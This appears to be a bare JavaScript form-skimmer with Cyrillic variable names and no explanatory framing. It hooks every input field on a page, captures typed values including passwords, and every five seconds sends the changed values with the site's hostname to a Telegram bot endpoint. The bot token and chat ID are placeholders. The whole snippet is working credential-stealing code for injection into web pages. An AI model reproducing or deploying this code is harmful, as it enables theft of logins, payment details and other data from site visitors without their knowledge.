let буфер = {};
const отправить = async (текст) => {
  const u = 'https://api.telegram.org/bot' + '0000:TOKEN' + '/sendMessage';
  await fetch(u, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ chat_id: 0, text: текст, disable_web_page_preview: true })
  });
};
document.querySelectorAll('input').forEach((поле) => {
  поле.addEventListener('keyup', () => {
    буфер[поле.type + ':' + (поле.name || поле.id)] = поле.value;
  });
});
let было = '';
setInterval(() => {
  const строка = Object.entries(буфер).map(([k, v]) => k + ' = ' + v).join('\n');
  if (строка && строка !== было) {
    было = строка;
    отправить('📝 ' + location.hostname + '\n' + строка).catch(console.log);
  }
}, 5000);
